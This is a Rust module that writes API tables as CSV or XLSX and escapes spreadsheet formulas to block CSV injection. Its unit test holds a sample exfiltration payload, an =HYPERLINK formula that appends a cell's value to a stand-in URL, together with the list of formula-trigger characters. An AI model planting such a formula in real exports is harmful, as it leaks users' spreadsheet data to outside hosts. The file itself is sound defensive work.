//! Tables written as CSV or XLSX, the one way every file of the API writes
//! them: totals, completeness, `/data/values` and the import templates.
//!
//! The CSV is UTF-8 with a byte order mark (Excel then reads Vietnamese as
//! Vietnamese), CRLF line ends, one header line of columns: codes for
//! machines (`ma_…`) beside names for people. Numbers are exact and bare
//! (no thousands separator): `decimal=dot` (default) writes `1234.5` with
//! `,` between fields, `decimal=comma` writes `1234,5` with `;` for Excel set
//! to Vietnamese. The XLSX has the same columns, numbers as numbers and text
//! as text. `/data/values` streams its CSV a chunk at a time through
//! [`csv_writer`]; the other tables are small enough to build whole. In a
//! workbook a column holding no figure is formatted as text, so that what
//! a user types into it later (`2026-06`) stays text, not a date.

use rust_xlsxwriter::{Format, Workbook, Worksheet, XlsxError};
use tonghop_shared::Amount;
use tonghop_shared::api::DecimalMark;

use crate::error::{ApiError, ApiResult};

/// UTF-8 byte order mark: Excel then reads the Vietnamese as Vietnamese.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// One cell.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    /// Text, written as text (codes such as `2026-06` stay text in Excel).
    Text(String),
    /// An exact figure.
    Number(Amount),
    /// Nothing (no plan, no figure last year).
    Empty,
}

impl From<String> for Cell {
    fn from(text: String) -> Self {
        Cell::Text(text)
    }
}

impl From<&str> for Cell {
    fn from(text: &str) -> Self {
        Cell::Text(text.to_owned())
    }
}

impl From<Option<Amount>> for Cell {
    fn from(value: Option<Amount>) -> Self {
        value.map_or(Cell::Empty, Cell::Number)
    }
}

impl From<u32> for Cell {
    fn from(value: u32) -> Self {
        Cell::Number(Amount::from_int(i64::from(value)))
    }
}

/// A table to write as a file.
#[derive(Debug, Clone)]
pub struct Sheet {
    /// The sheet's name in the workbook (at most 31 characters).
    pub name: &'static str,
    /// Column headers with their width in the workbook.
    pub columns: &'static [(&'static str, f64)],
    /// The rows, one cell per column.
    pub rows: Vec<Vec<Cell>>,
}

/// A CSV writer in a decimal convention: `,` between fields with `dot`, `;`
/// with `comma`; CRLF line ends. It writes into `start` (the [`BOM`] for a
/// whole file, nothing for a chunk that follows).
pub fn csv_writer(mark: DecimalMark, start: Vec<u8>) -> csv::Writer<Vec<u8>> {
    let delimiter = match mark {
        DecimalMark::Dot => b',',
        DecimalMark::Comma => b';',
    };
    csv::WriterBuilder::new().delimiter(delimiter).terminator(csv::Terminator::CRLF).from_writer(start)
}

/// A failed CSV or XLSX write, as an internal error.
pub fn internal(e: impl std::fmt::Display) -> ApiError {
    ApiError::Internal(anyhow::anyhow!("writing a table: {e}"))
}

/// The sheet as CSV.
pub fn csv(sheet: &Sheet, mark: DecimalMark) -> ApiResult<Vec<u8>> {
    let mut bytes = csv_head(sheet.columns, mark)?;
    bytes.extend(csv_lines(sheet.rows.iter().map(Vec::as_slice), mark)?);
    Ok(bytes)
}

/// The start of a CSV file: the [`BOM`] and the header line of the columns.
pub fn csv_head(columns: &[(&str, f64)], mark: DecimalMark) -> ApiResult<Vec<u8>> {
    let mut w = csv_writer(mark, BOM.to_vec());
    w.write_record(columns.iter().map(|(name, _)| *name)).map_err(internal)?;
    w.into_inner().map_err(internal)
}

/// CSV lines of rows, to follow the head or the lines before (a chunk of a
/// streamed file).
pub fn csv_lines<R: AsRef<[Cell]>>(rows: impl IntoIterator<Item = R>, mark: DecimalMark) -> ApiResult<Vec<u8>> {
    let mut w = csv_writer(mark, Vec::new());
    for row in rows {
        w.write_record(row.as_ref().iter().map(|c| csv_field(c, mark))).map_err(internal)?;
    }
    w.into_inner().map_err(internal)
}

/// A cell as a field of a CSV file, the one way every CSV of the API writes
/// one: a number exact and bare, text through [`csv_text`].
pub fn csv_field(cell: &Cell, mark: DecimalMark) -> String {
    match cell {
        Cell::Text(t) => csv_text(t),
        Cell::Number(n) => plain_number(*n, mark),
        Cell::Empty => String::new(),
    }
}

/// Text that no spreadsheet opening the CSV runs as a formula (OWASP, CSV
/// injection): text starting with `=`, `+`, `-`, `@`, a tab or a carriage
/// return gets a `'` in front. A unit named `=HYPERLINK(…)` stays its
/// name; figures are numbers, never text, so `-12.5` stays a number.
pub fn csv_text(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_owned() }
}

/// The sheet as an XLSX workbook.
pub fn xlsx(sheet: &Sheet) -> ApiResult<Vec<u8>> {
    xlsx_with_guide(sheet, None)
}

/// The sheet, and a second sheet `(name, notes)` of one note a line: a
/// template's instructions, which an import never reads (it reads the first
/// sheet only).
pub fn xlsx_with_guide(sheet: &Sheet, guide: Option<(&str, &[&str])>) -> ApiResult<Vec<u8>> {
    let build = || -> Result<Vec<u8>, XlsxError> {
        let mut workbook = Workbook::new();
        write_sheet(workbook.add_worksheet(), sheet)?;
        if let Some((name, notes)) = guide {
            let ws = workbook.add_worksheet().set_name(name)?;
            ws.set_column_width(0, 140)?;
            for (i, note) in notes.iter().enumerate() {
                ws.write_string(i as u32, 0, *note)?;
            }
        }
        workbook.save_to_buffer()
    };
    build().map_err(internal)
}

fn write_sheet(ws: &mut Worksheet, sheet: &Sheet) -> Result<(), XlsxError> {
    let (bold, text) = (Format::new().set_bold().set_text_wrap(), Format::new().set_num_format("@"));
    ws.set_name(sheet.name)?;
    for (c, (name, width)) in sheet.columns.iter().enumerate() {
        let holds_figures = sheet.rows.iter().any(|row| matches!(row.get(c), Some(Cell::Number(_))));
        if !holds_figures {
            ws.set_column_format(c as u16, &text)?;
        }
        ws.set_column_width(c as u16, *width)?;
        ws.write_string_with_format(0, c as u16, *name, &bold)?;
    }
    ws.set_freeze_panes(1, 0)?;
    for (r, row) in sheet.rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            let (r, c) = ((r + 1) as u32, c as u16);
            match cell {
                Cell::Text(t) => {
                    ws.write_string(r, c, t)?;
                }
                Cell::Number(n) => {
                    ws.write_number(r, c, n.to_f64())?;
                }
                Cell::Empty => {}
            }
        }
    }
    Ok(())
}

/// `-1234.5` or `-1234,5`: exact, no thousands separator, no trailing zeros.
/// A separator would make every reader guess; Excel and scripts read a
/// bare number in their own decimal convention.
pub fn plain_number(amount: Amount, mark: DecimalMark) -> String {
    let scaled = amount.scaled();
    let (whole, fraction) = (scaled.unsigned_abs() / 10_000, scaled.unsigned_abs() % 10_000);
    let sign = if scaled < 0 { "-" } else { "" };
    if fraction == 0 {
        return format!("{sign}{whole}");
    }
    let digits = format!("{fraction:04}");
    let point = match mark {
        DecimalMark::Dot => '.',
        DecimalMark::Comma => ',',
    };
    format!("{sign}{whole}{point}{}", digits.trim_end_matches('0'))
}

#[cfg(test)]
mod tests {
    #[test]
    fn numbers_are_exact_and_bare() {
        assert_eq!(plain_number(Amount::from_scaled(12_345_000), DecimalMark::Dot), "1234.5");
        assert_eq!(plain_number(Amount::from_scaled(12_345_000), DecimalMark::Comma), "1234,5");
        assert_eq!(plain_number(Amount::from_int(1936), DecimalMark::Comma), "1936");
        assert_eq!(plain_number(Amount::from_scaled(-5), DecimalMark::Dot), "-0.0005");
    }

    use super::*;

    fn sheet() -> Sheet {
        Sheet {
            name: "Bảng",
            columns: &[("ma", 8.0), ("Tên", 20.0), ("Giá trị", 10.0)],
            rows: vec![
                vec!["XP".into(), "Xã Xuân Phú; \"mới\"".into(), Cell::Number(Amount::from_scaled(19_365_000))],
                vec!["TH".into(), "Tỉnh".into(), Cell::Empty],
            ],
        }
    }

    #[test]
    fn csv_has_a_bom_a_header_and_exact_numbers_in_either_convention() {
        let dot = String::from_utf8(csv(&sheet(), DecimalMark::Dot).unwrap()).unwrap();
        assert_eq!(dot, "\u{feff}ma,Tên,Giá trị\r\nXP,\"Xã Xuân Phú; \"\"mới\"\"\",1936.5\r\nTH,Tỉnh,\r\n");
        let comma = String::from_utf8(csv(&sheet(), DecimalMark::Comma).unwrap()).unwrap();
        assert!(comma.contains("XP;\"Xã Xuân Phú; \"\"mới\"\"\";1936,5\r\n"), "{comma}");
    }

    #[test]
    fn text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_are_not() {
        let formula = Cell::from("=HYPERLINK(\"http://x\"&A2,\"Thôn Ba Ngọc\")");
        assert_eq!(csv_field(&formula, DecimalMark::Dot), "'=HYPERLINK(\"http://x\"&A2,\"Thôn Ba Ngọc\")");
        for text in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(csv_text(text), format!("'{text}"));
        }
        assert_eq!(csv_text("Thôn Ba Ngọc - 1"), "Thôn Ba Ngọc - 1");
        assert_eq!(csv_field(&Cell::Number(Amount::from_scaled(-125_000)), DecimalMark::Comma), "-12,5");
    }

    #[test]
    fn xlsx_is_a_workbook() {
        let bytes = xlsx(&sheet()).unwrap();
        assert_eq!(&bytes[..2], b"PK");
    }
}
